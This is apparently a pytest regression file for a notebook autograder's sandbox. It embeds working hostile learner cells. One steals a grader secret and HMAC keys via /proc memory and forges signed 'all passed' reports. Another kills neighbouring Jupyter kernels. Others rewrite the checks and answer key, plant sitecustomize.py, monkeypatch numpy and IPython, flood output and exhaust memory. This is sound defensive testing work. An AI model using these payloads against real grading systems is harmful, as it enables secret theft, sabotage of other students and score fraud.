"""Issue 22: a hostile learner against `coursekit grade`, on the toy course of test_exercises.py.

Each attack is a cell added to a submission. The course is the toy course of conftest.py (its `toycourse` checks). The tests that name the old grader in their docstring were run
against it (commit fadff72, a worktree with PYTHONPATH pointing at it) and failed there as described.
"""

import json
import os
import shutil
import socket
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from coursekit import exercises, grading
from tests.coursekit.test_exercises import TOY_KEY, TOY_NAME, TOY_POINTS, main, write_toy_course
from tests.coursekit.test_grading import by_exercise, private_run_registry, read_csv, replace_cell_source  # noqa: F401 (a fixture)
from tools.repo_paths import REPO_ROOT

FULL_MARKS = sum(TOY_POINTS.values())
pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("toy_course_module")]


@pytest.fixture(scope="module")
def course(tmp_path_factory, toy_course_module):
    root = tmp_path_factory.mktemp("course")
    write_toy_course(root)
    exercises.build(root / "solutions", root / "exercises")
    (root / "submissions").mkdir()
    return root


def notebook(course, attack="", wrong_answers=False, answer_3_2=None, answer_3_3=None):
    """The toy solution (or wrong answers), with `attack` as a cell before the exercises."""
    nb = exercises.read_notebook(course / "solutions" / TOY_NAME)
    if wrong_answers:
        replace_cell_source(nb, "3.1", "solution", "return shifted / shifted.sum(axis=-1, keepdims=True)", "return x")
        replace_cell_source(nb, "3.2", "solution", "np.arange(5) ** 2", "np.arange(5)")
        replace_cell_source(nb, "3.3", "solution", "longest = int(lengths.max())", "longest = 4")
    if answer_3_2 is not None:
        replace_cell_source(nb, "3.2", "solution", "float(np.mean(np.arange(5) ** 2))" if not wrong_answers
                            else "float(np.mean(np.arange(5)))", answer_3_2)
    if answer_3_3 is not None:
        replace_cell_source(nb, "3.3", "solution", "longest = 4" if wrong_answers else "longest = int(lengths.max())",
                            answer_3_3)
    if attack:
        nb.cells.insert(2, nbformat.v4.new_code_cell(attack))
    return nb


def save(course, student, nb, name=TOY_NAME):
    path = course / "submissions" / student / name
    path.parent.mkdir(parents=True)
    nbformat.write(nb, str(path))
    return path


def totals(rows, paths):
    return {name: sum(int(row["score"]) for row in by_exercise(rows, path).values()) for name, path in paths.items()}


def reports_text(out):
    return "".join(path.read_text(encoding="utf-8") for path in [out, out.with_suffix(".md"),
                                                                  *out.parent.glob(f"{out.stem}_feedback/*.md")])


# ------------------------------------------------------------------------ a secret, and a forged signed report

STEAL_AND_FORGE = r'''
import glob, hashlib, hmac, json, os, re, stat
SECRET = {secret!r}
texts, keys = [], set()
for folder in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            texts.append(open(f"{{folder}}/{{name}}", "rb").read().decode("latin-1"))
        except OSError:
            pass
    if folder == f"/proc/{{os.getpid()}}":
        continue
    try:  # the old runner held its report key in memory: read it through /proc/<pid>/mem
        with open(f"{{folder}}/maps") as maps, open(f"{{folder}}/mem", "rb", buffering=0) as memory:
            for line in maps:
                span, permissions = line.split()[:2]
                start, end = (int(value, 16) for value in span.split("-"))
                if not permissions.startswith("rw") or end - start > 2**28:
                    continue
                try:
                    memory.seek(start)
                    chunk = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                keys.update(key.decode() for key in re.findall(rb"(?<![0-9a-f])[0-9a-f]{{64}}(?![0-9a-f])", chunk))
                if SECRET.encode() in chunk:
                    texts.append(SECRET)
    except OSError:
        pass
stolen = any(SECRET in text for text in texts)
payload = json.dumps({{"started": list(range(40)), "timed_out": False, "kernel_died": False,
                      "results": {{str(n): {{"outcome": "passed", "ename": None, "evalue": None}} for n in range(40)}},
                      "outcomes": {{str(n): {{"status": "passed", "message": "forged"}} for n in range(40)}},
                      "ending": "finished"}})
lines = [json.dumps({{"payload": payload, "hmac": hmac.new(key.encode(), payload.encode(), hashlib.sha256).hexdigest()}})
         for key in sorted(keys)[:500]] + [payload]
for path in glob.glob("/proc/[0-9]*/fd/1"):  # a signed "all passed" into every parent's pipe in reach, then a "{{"
    try:                                     # that spoils the report written after it
        if stat.S_ISFIFO(os.stat(path).st_mode) and not path.startswith(f"/proc/{{os.getpid()}}/"):
            with open(path, "w") as pipe:
                pipe.write("\n".join(lines) + "\n{{")
    except OSError:
        pass
'''


def test_a_kernel_can_neither_read_a_grader_secret_nor_forge_a_result(course, tmp_path, monkeypatch):
    """Old grader: the kernel had the grader's environment (the secret, then in the feedback), read the report key
    from the runner's memory, and its forged "all passed" report scored wrong answers 4 of 4.

    Here wrong answers get 0, the secret never reaches the kernel (3.2 would pass if it had), and no report file
    holds it."""
    secret = f"bertlib-test-secret-{time.time_ns()}"
    monkeypatch.setenv("BERTLIB_TEST_GRADER_SECRET", secret)
    nb = notebook(course, STEAL_AND_FORGE.format(secret=secret), wrong_answers=True,
                  answer_3_2="6.0 if stolen else 4.0", answer_3_3="raise RuntimeError(repr(texts)[-3000:])")
    path = save(course, "thief", nb)
    out = tmp_path / "grades.csv"
    rows = grading.grade([path], out, solutions_dir=course / "solutions", timeout=90)
    assert [(row["exercise"], row["status"], row["score"]) for row in rows] == [
        ("3.1", "failed", 0), ("3.2", "failed", 0), ("3.3", "error", 0)], [row.row() for row in rows]
    assert "RuntimeError" in rows[2]["message"], "the learner's error reaches the feedback, the secret does not"
    assert secret not in reports_text(out)


# ----------------------------------------------------------------------------------------- the neighbour

KILL_THE_NEIGHBOURS = '''
import glob, os, time
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
mine, tried = os.path.realpath(get_connection_file()), set()
end = time.time() + 25
while time.time() < end:
    found = set(glob.glob("/tmp/*/*.json") + glob.glob("/tmp/*/runtime/*.json"))
    found |= set(glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json")))
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            parts = open(cmdline, "rb").read().decode().split("\\0")
        except OSError:
            continue
        found |= {parts[i + 1] for i, part in enumerate(parts[:-1]) if part == "-f"}
    for path in found - tried - {mine}:
        tried.add(path)
        try:
            client = BlockingKernelClient()
            client.load_connection_file(path)
            client.start_channels()
            client.execute("import os; os._exit(1)")
            time.sleep(0.5)
            client.stop_channels()
        except Exception:
            pass
    time.sleep(0.2)
'''


def test_a_kernel_cannot_kill_its_neighbour(course, tmp_path):
    """Old grader (--jobs 2): the attacker found the other kernel's connection file and ran os._exit(1) in it; the
    correct neighbour scored 0 of 4 (its kernel died before exercise 3.1)."""
    paths = {"neighbour": save(course, "neighbour", notebook(course, "import time\ntime.sleep(20)")),
             "attacker": save(course, "attacker", notebook(course, KILL_THE_NEIGHBOURS))}
    out = tmp_path / "grades.csv"
    assert main(["grade", *map(str, paths.values()), "--out", str(out), "--solutions", str(course / "solutions"),
                 "--timeout", "120", "--jobs", "2"]) == 0
    assert totals(read_csv(out), paths) == {"neighbour": FULL_MARKS, "attacker": FULL_MARKS}


# --------------------------------------------------------------------------------------------- the grader

REWRITE_THE_GRADER = '''
import json, pathlib
planted = []
targets = {{
    {checks!r}: "\\ndef check_close(*args, **kwargs):\\n    pass\\ncheck_equal = check_function = check_close\\n",
    {sitecustomize!r}: "import numpy\\nnumpy.isclose = lambda *args, **kwargs: True\\n",
}}
for name, text in targets.items():
    try:
        with open(name, "a") as file:
            file.write(text)
        planted.append(name)
    except OSError:
        pass
solution = pathlib.Path({solution!r})
try:
    nb = json.loads(solution.read_text())
    for cell in nb["cells"]:
        if cell.get("metadata", {{}}).get({key!r}, {{}}).get("role") == "check":
            cell["source"] = "pass"
    solution.write_text(json.dumps(nb))
    planted.append(str(solution))
except OSError:
    pass
'''


def test_a_kernel_cannot_rewrite_the_checks_the_answer_key_or_plant_a_sitecustomize(course, tmp_path,
                                                                                   toy_course_module):
    """Old grader: the kernel appended no-op helpers to bertlib/course/checks.py, emptied the solution's check cells
    and planted sitecustomize.py at the repository root; its own wrong answers and a later run's scored 4 of 4.
    Here the checks are the toy course's, the module its check cells import."""
    checks = toy_course_module / "toycourse" / "checks.py"
    sitecustomize = REPO_ROOT / "sitecustomize.py"
    solutions = tmp_path / "solutions"
    shutil.copytree(course / "solutions", solutions)
    solution = solutions / TOY_NAME
    saved = {path: path.read_bytes() for path in (checks, solution)}
    assert not sitecustomize.exists()
    attack = REWRITE_THE_GRADER.format(checks=str(checks), sitecustomize=str(sitecustomize), solution=str(solution),
                                       key=TOY_KEY)
    try:
        first = grading.grade([save(course, "rewriter", notebook(course, attack, wrong_answers=True))],
                              tmp_path / "first.csv", solutions_dir=solutions, timeout=90)
        later = grading.grade([save(course, "later", notebook(course, wrong_answers=True))], tmp_path / "later.csv",
                              solutions_dir=solutions, timeout=90)
        assert [row["score"] for row in [*first, *later]] == [0] * 6, [row.row() for row in [*first, *later]]
        assert {path: path.read_bytes() for path in saved} == saved and not sitecustomize.exists()
    finally:
        for path, data in saved.items():
            path.write_bytes(data)
        sitecustomize.unlink(missing_ok=True)


# -------------------------------------------------------------------------------------- numpy, builtins, IPython

PATCH_EVERYTHING = '''
import builtins
import numpy
from IPython.core.interactiveshell import ExecutionResult

numpy.isclose = lambda *args, **kwargs: numpy.ones(numpy.broadcast(*args[:2]).shape, bool)
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
builtins.float = lambda *args: 6.0
# every error reported as success: the kernel's execute_reply says "ok" whatever a cell raised
ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)
ExecutionResult.error_before_exec = property(lambda self: None, lambda self, value: None)
'''


def test_a_kernel_that_patches_numpy_builtins_and_ipython_cannot_make_a_check_pass(course, tmp_path):
    """Old grader: the instructor's checks ran in the learner's kernel, with the patched numpy and an IPython that
    reports every error as success; wrong answers scored 4 of 4."""
    path = save(course, "patcher", notebook(course, PATCH_EVERYTHING, wrong_answers=True,
                                            answer_3_2="np.mean(np.arange(5))"))  # no float(): a numpy 2.0
    rows = grading.grade([path], tmp_path / "grades.csv", solutions_dir=course / "solutions", timeout=90)
    assert [(row["status"], row["score"]) for row in rows] == [("failed", 0)] * 3, [row.row() for row in rows]
    assert "Expected: 6.0" in rows[1]["message"] and "Got:      2.0" in rows[1]["message"]


# ------------------------------------------------------------------------------------------------ a flood

FLOOD = '''
import glob, os, stat
line = "x" * 2**20
for _ in range({printed_mb}):
    print(line)
block = b"y" * 2**20
for path in glob.glob("/proc/[0-9]*/fd/[12]"):  # the old runner's report pipe, and our own stdout
    try:
        if stat.S_ISFIFO(os.stat(path).st_mode):
            with open(path, "wb") as pipe:
                for _ in range({piped_mb}):
                    pipe.write(block)
    except OSError:
        pass
'''


def test_a_flood_of_output_costs_the_grader_no_memory_and_everyone_is_graded(course, tmp_path):
    """Old grader: 1 GB written into the runner's stdout and stderr was all held in the grading process (its resident
    memory grew by more than 2 GB)."""
    paths = {"flooder": save(course, "flooder", notebook(course, FLOOD.format(printed_mb=200, piped_mb=512))),
             "honest": save(course, "honest", notebook(course))}
    grader = psutil.Process()
    baseline, peak, running = grader.memory_info().rss, [0], [True]

    def sample():
        while running[0]:
            peak[0] = max(peak[0], grader.memory_info().rss)
            time.sleep(0.05)

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        out = tmp_path / "grades.csv"
        rows = grading.grade(list(paths.values()), out, solutions_dir=course / "solutions", timeout=120, jobs=2)
    finally:
        running[0] = False
        sampler.join()
    assert peak[0] - baseline < 300 * 2**20, f"the grader grew by {(peak[0] - baseline) / 2**20:.0f} MB"
    assert totals(read_csv(out), paths) == {"flooder": 0, "honest": FULL_MARKS}
    flooder = by_exercise(read_csv(out), paths["flooder"])
    assert all("printed or sent more than 64 MB" in row["message"] for row in flooder.values()), flooder
    assert len(rows) == 6


# ------------------------------------------------------------------------- submissions the grader cannot read

def test_odd_metadata_broken_files_links_fifos_and_odd_names_become_rows(course, tmp_path):
    """Old grader: `"chapter": "²"` stopped the whole run with a ValueError before anyone was graded (no
    grades.csv); a symbolic link to the solution notebook scored full marks; a FIFO named like a notebook got
    "no such file"."""
    folder = tmp_path / "class"
    folder.mkdir()
    superscript = exercises.read_notebook(course / "exercises" / TOY_NAME)
    superscript.metadata[TOY_KEY]["chapter"] = "²"
    nbformat.write(superscript, str(folder / "superscript.ipynb"))
    odd_cell = notebook(course)
    odd_cell.cells[3].metadata[TOY_KEY] = "²"
    nbformat.write(odd_cell, str(folder / "03_odd_cell.ipynb"))
    (folder / "03_truncated.ipynb").write_text((course / "solutions" / TOY_NAME).read_text()[:300])
    (folder / "03_not_utf8.ipynb").write_bytes(b'{"cells": "\xff\xfe"}')
    (folder / "03_linked.ipynb").symlink_to(course / "solutions" / TOY_NAME)
    os.mkfifo(folder / "03_fifo.ipynb")
    big = notebook(course)
    big.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="z" * (60 * 2**20))]
    big.cells[0].cell_type, big.cells[0].execution_count = "code", 1
    big.cells[0].source = "print('big')"
    nbformat.write(big, str(folder / "03_big.ipynb"))
    odd_name = folder / os.fsdecode(b"03_caf\xe9.ipynb")
    nbformat.write(notebook(course), str(odd_name))
    out = tmp_path / "grades.csv"
    started = time.monotonic()
    assert main(["grade", str(folder), "--out", str(out), "--solutions", str(course / "solutions"),
                 "--timeout", "90", "--jobs", "2"]) == 0
    assert time.monotonic() - started < 300
    rows = read_csv(out)
    messages = {Path(row["notebook"]).name: row["message"] for row in rows}
    assert messages["superscript.ipynb"].startswith("not attempted"), "graded, found by its exercise ids"
    assert f"metadata {TOY_KEY} must be an object" in messages["03_odd_cell.ipynb"]
    assert "JSONDecodeError" in messages["03_truncated.ipynb"]
    assert "UnicodeDecodeError" in messages["03_not_utf8.ipynb"]
    assert "symbolic link" in messages["03_linked.ipynb"]
    assert "not a regular file" in messages["03_fifo.ipynb"]
    assert "more than the 50 MB the grader reads" in messages["03_big.ipynb"]
    odd = [row for row in rows if "caf" in row["notebook"]]
    assert odd and odd[0]["notebook"].endswith("03_caf\\xe9.ipynb") and sum(int(row["score"]) for row in odd) == 4
    assert len(list((tmp_path / "grades_feedback").glob("*.md"))) == 8


# --------------------------------------------------------------------------------------- what the kernel sees

PROBE = '''
import json, os, socket
facts = {{}}
facts["processes"] = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
facts["environment"] = sorted(os.environ)
facts["visible"] = [path for path in {hidden!r} if os.path.exists(path)]
facts["writable"] = []
for folder in {read_only!r} + [os.path.expanduser("~"), "/tmp"]:
    try:
        with open(os.path.join(folder, ".bertlib-probe"), "w") as file:
            file.write("x")
        facts["writable"].append(folder)
    except OSError:
        pass
facts["network"] = []
for address in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=2).close()
        facts["network"].append(address)
    except OSError:
        pass
facts_json = json.dumps(facts)
'''
def test_the_kernel_runs_unprivileged_alone_offline_with_a_read_only_view_and_no_grader_environment(
        course, tmp_path, monkeypatch, toy_course_module):
    """Old grader: the kernel ran as the grading user (root here), saw the solutions, the other folders of the
    repository and the grader's whole environment, and could write into bertlib/ (here: the course's package)."""
    monkeypatch.setenv("BERTLIB_TEST_GRADER_SECRET", "s3cr3t")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    hidden = [str(course / "solutions"), str(REPO_ROOT / "tests"), str(REPO_ROOT / "solutions"),
              str(REPO_ROOT / ".git"), str(course / "submissions"), str(tmp_path), "/root/.ssh"]
    read_only = [str(toy_course_module / "toycourse"), str(Path(os.__file__).parent)]
    attack = PROBE.format(hidden=hidden, read_only=read_only, port=listener.getsockname()[1])
    path = save(course, "prober", notebook(course, attack,
                                           answer_3_3="raise RuntimeError('FACTS' + facts_json + 'FACTS')"))
    kernel_uids, running = set(), [True]

    def watch():  # the kernel's uid on this machine, seen from outside (inside, it is uid 1000 of its namespace)
        while running[0]:
            # This test's own descendants only: a test beside it (pytest-xdist) may run an unsafe grade as root.
            for process in psutil.Process().children(recursive=True):
                try:
                    process.info = process.as_dict(["cmdline", "uids"])
                except psutil.Error:  # it ended while we looked
                    continue
                argv = process.info["cmdline"] or []
                # The kernel itself, `python -m ipykernel_launcher`: the root `unshare` and `sh` that stage its
                # mounts carry the same words in their argv until `setpriv` drops the uid and starts bwrap.
                if (argv[1:3] == ["-m", "ipykernel_launcher"] and "coursekit-grade-" in " ".join(argv)
                        and process.info["uids"]):
                    kernel_uids.add(process.info["uids"].real)
            time.sleep(0.1)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        rows = grading.grade([path], tmp_path / "grades.csv", solutions_dir=course / "solutions", timeout=90)
    finally:
        running[0] = False
        watcher.join()
        listener.close()
    assert [row["score"] for row in rows] == [1, 2, 0], [row.row() for row in rows]
    facts = json.loads(rows[2].outcome.message.split("FACTS")[1])
    assert kernel_uids and 0 not in kernel_uids, kernel_uids
    assert os.geteuid() == 0 or kernel_uids == {os.geteuid()}
    assert os.getpid() not in facts["processes"] and len(facts["processes"]) < 10, facts["processes"]
    kernel_environment = {"HOME", "TMPDIR", "USER", "LANG", "PATH", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE",
                          "MPLBACKEND", "MPLCONFIGDIR", "IPYTHONDIR", "TOYCOURSE_FAST",
                          "TOYCOURSE_KERNEL",  # the course's kernel_environment (toycourse/toycourse/kit.py)
                          "PYDEVD_DISABLE_FILE_VALIDATION", *grading.sandbox.ENVIRONMENT_PASSED,
                          "PWD",  # set by bwrap; the rest by ipykernel itself
                          "JPY_PARENT_PID", "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "PAGER", "GIT_PAGER", "TERM",
                          "PYDEVD_USE_FRAME_EVAL"}
    assert set(facts["environment"]) <= kernel_environment, set(facts["environment"]) - kernel_environment
    assert "TOYCOURSE_KERNEL" in facts["environment"], "the course's kernel_environment hook reaches the kernel"
    assert facts["visible"] == [] and facts["network"] == [], facts
    assert facts["writable"] == [grading.sandbox.SANDBOX_HOME, "/tmp"], facts["writable"]


# ------------------------------------------------------------------------------------------------- limits

MEMORY = "import numpy\nballast = numpy.ones(200_000_000)\n"
PROCESSES = "import subprocess\nchildren = [subprocess.Popen(['sleep', '60']) for _ in range(300)]\n"
FILES = "with open('/tmp/big', 'wb') as file:\n    for _ in range(200):\n        file.write(b'z' * 2**20)\n"


def test_memory_processes_and_files_are_limited_and_the_class_is_still_graded(course, tmp_path):
    """Each attack opens exercise 3.1's solution: over the memory limit the notebook is stopped (every exercise
    says why); too many processes or too large a file is an error of that exercise only."""
    limits = grading.Limits(memory_bytes=600 * 2**20, tasks=64, scratch_bytes=64 * 2**20)
    paths = {}
    for name, attack in (("memory", MEMORY), ("processes", PROCESSES), ("files", FILES)):
        nb = notebook(course)
        (index,) = exercises.exercise_cells(nb)["3.1"]["solution"]
        nb.cells[index].source = attack + nb.cells[index].source
        paths[name] = save(course, name, nb)
    rows = grading.grade(list(paths.values()), tmp_path / "grades.csv", solutions_dir=course / "solutions",
                         timeout=90, jobs=2, limits=limits)
    grades = {name: by_exercise(read_csv(tmp_path / "grades.csv"), path) for name, path in paths.items()}
    assert totals(read_csv(tmp_path / "grades.csv"), paths) == {"memory": 0, "processes": 3, "files": 3}, \
        [row.row() for row in rows]
    assert all("used more than 0.585938 GB of memory" in row["message"] for row in grades["memory"].values())
    assert grades["processes"]["3.1"]["status"] == "error" and "BlockingIOError" in grades["processes"]["3.1"]["message"]
    assert grades["files"]["3.1"]["status"] == "error" and "No space left on device" in grades["files"]["3.1"]["message"]


# ------------------------------------------------------------------------------------ no sandbox, no silence

@pytest.mark.usefixtures("private_run_registry")  # its unsafe run must not meet another test worker's run
def test_without_bubblewrap_the_grader_refuses_with_the_fix_or_runs_unsafe_when_told(course, tmp_path, monkeypatch,
                                                                                      capsys):
    """Old grader: without its namespaces it silently fell back to running the kernel as the grading user."""
    empty = tmp_path / "bin"
    empty.mkdir()
    for tool in ("sh", "unshare", "setpriv", "mount"):
        if shutil.which(tool):
            (empty / tool).symlink_to(shutil.which(tool))
    monkeypatch.setenv("PATH", str(empty))
    monkeypatch.setattr(grading.sandbox, "_PROBED", {})
    arguments = ["grade", str(course / "solutions" / TOY_NAME), "--out", str(tmp_path / "g.csv"), "--solutions",
                 str(course / "solutions"), "--timeout", "90"]
    assert main(arguments) == 2
    said = capsys.readouterr().out
    assert "`bwrap` is not installed" in said and "apt-get install bubblewrap" in said
    assert "--unsafe-no-sandbox" in said and not (tmp_path / "g.csv").exists()
    assert main([*arguments, "--unsafe-no-sandbox"]) == 0
    assert "graded WITHOUT a sandbox" in capsys.readouterr().out
    rows = read_csv(tmp_path / "g.csv")
    assert all(row["status"] == "passed" and "graded without a sandbox" in row["note"] for row in rows)


def test_values_cross_between_kernel_and_checker_without_pickle_and_within_bounds():
    import random

    import numpy as np

    from coursekit.grading import wire

    def refuse(value):
        raise TypeError(type(value).__name__)

    values = [None, True, 3, -2**80, 1.5, float("nan"), "é", b"\x00", 1j, (1, [2, {3: {4}}]), frozenset({1}),
              np.arange(6).reshape(2, 3), np.float32(2.5), np.bool_(True), np.array(["a", "bc"]),
              np.array([None, "x"], dtype=object), slice(1, None), random.Random(3), np.random.default_rng(4)]
    decoded = wire.decode(wire.loads(wire.dumps(wire.encode(values, refuse))), refuse)
    for got, want in zip(decoded, values):
        if isinstance(want, np.ndarray):
            assert got.dtype == want.dtype and got.shape == want.shape and (got == want).all()
        elif isinstance(want, (random.Random, np.random.Generator)):
            assert type(got) is type(want) and got.random() == want.random()
        elif isinstance(want, float) and want != want:
            assert got != got
        else:
            assert got == want and type(got) is type(want), (got, want)
    pickled = {"t": "array", "v": __import__("base64").b64encode(_pickled_object_array()).decode()}
    with pytest.raises(ValueError, match="allow_pickle"):
        wire.decode(pickled, refuse)
    for bad in ({"t": "import", "v": "os.system"}, {"t": "float", "v": "1e999"}, [1], {"t": "dict", "v": [[1]]}):
        with pytest.raises(wire.WireError):
            wire.decode(bad, refuse)
    deep = 0
    for _ in range(100):
        deep = {"t": "list", "v": [deep]}
    with pytest.raises(wire.WireError, match="nested"):
        wire.decode(deep, refuse)
    with pytest.raises(wire.WireError, match="more than"):
        wire.loads("x" * (wire.MAX_BYTES + 1))


def test_a_pytorch_tensor_that_records_gradients_crosses_as_its_values():
    # What a learner's Keras layer returns on the PyTorch backend: np.asarray refuses it until it is detached.
    torch = pytest.importorskip("torch")
    import numpy as np

    from coursekit.grading import wire

    def refuse(value):
        raise TypeError(type(value).__name__)

    weights = torch.ones(2, 3, requires_grad=True)
    output = weights * 2
    with pytest.raises(RuntimeError, match="requires grad"):
        np.asarray(output)
    decoded = wire.decode(wire.loads(wire.dumps(wire.encode([output, torch.arange(3)], refuse))), refuse)
    assert decoded[0].dtype == np.float32 and (decoded[0] == 2).all() and decoded[0].shape == (2, 3)
    assert (decoded[1] == np.arange(3)).all()


def _pickled_object_array():
    import io

    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------------ issue 38

@pytest.mark.usefixtures("private_run_registry")
def test_a_tmpdir_of_any_length_works_sandboxed_and_unsafe(course, tmp_path, monkeypatch):
    """Old grader: with a TMPDIR longer than about 67 characters every notebook failed with `ZMQError: File name
    too long` (a unix socket's path has at most 107 bytes)."""
    long_tmpdir = Path(tempfile.mkdtemp(prefix="bertlib-test-long-", dir="/tmp")) / ("t" * 80) / ("u" * 80)
    long_tmpdir.mkdir(parents=True)
    for folder in [long_tmpdir, *long_tmpdir.parents][:3]:
        folder.chmod(0o755)  # as root the sandbox's uid passes through it
    assert len(str(long_tmpdir)) > 150
    monkeypatch.setenv("TMPDIR", str(long_tmpdir))
    monkeypatch.setattr(tempfile, "tempdir", str(long_tmpdir))
    try:
        for unsafe in (False, True):
            rows = grading.grade([course / "solutions" / TOY_NAME], tmp_path / f"grades-{unsafe}.csv",
                                 solutions_dir=course / "solutions", timeout=90, unsafe=unsafe)
            assert [(row["status"], row["score"]) for row in rows] == [
                ("passed", TOY_POINTS[exercise]) for exercise in TOY_POINTS], [row.row() for row in rows]
        assert not list(long_tmpdir.iterdir()), "nothing is left in the temporary folder"
    finally:
        shutil.rmtree(long_tmpdir.parents[1], ignore_errors=True)


FILL_A_TMPFS = '''
import time
try:
    for part in range(6):  # 1.5 GB in files of 256 MB (one file may hold at most Limits.file_bytes)
        with open(f"{path}-{{part}}", "wb") as file:
            for _ in range(16):
                file.write(b"m" * 2**24)
                file.flush()
except OSError:
    pass  # the tmpfs is full (it is no larger than the memory limit): hold what was written
time.sleep(60)
'''


def test_files_on_the_sandboxs_tmpfs_mounts_count_as_memory_and_the_class_is_still_graded(course, tmp_path):
    """Old grader: with --memory 1 a notebook held 2.4 GB by writing to /dev/shm, /tmp and its home (tmpfs mounts of
    1 GB each, which the limit did not count); the write loops here ran to the end and 3.1 passed after 60 s."""
    paths = {"honest": save(course, "honest-beside-fillers", notebook(course))}  # the flood test has "honest"
    for name, where in (("shm", "/dev/shm/fill"), ("tmp", "/tmp/fill"), ("home", f"{grading.sandbox.SANDBOX_HOME}/f")):
        nb = notebook(course)
        (index,) = exercises.exercise_cells(nb)["3.1"]["solution"]
        nb.cells[index].source = FILL_A_TMPFS.format(path=where) + nb.cells[index].source
        paths[name] = save(course, f"fill-{name}", nb)
    out = tmp_path / "grades.csv"
    assert main(["grade", *map(str, paths.values()), "--out", str(out), "--solutions", str(course / "solutions"),
                 "--timeout", "120", "--jobs", "2", "--memory", "1"]) == 0
    rows = read_csv(out)
    assert totals(rows, paths) == {"honest": FULL_MARKS, "shm": 0, "tmp": 0, "home": 0}, rows
    for name in ("shm", "tmp", "home"):
        grades = by_exercise(rows, paths[name])
        assert grades["3.1"]["status"] == "error", grades
        assert "stopped while running cell" in grades["3.1"]["message"]
        assert "it used more than 1 GB of memory" in grades["3.1"]["message"], grades["3.1"]["message"]
        assert "GB in files in /tmp, /dev/shm and its home" in grades["3.1"]["message"]
        assert {grades[exercise]["status"] for exercise in ("3.2", "3.3")} == {"not-run"}
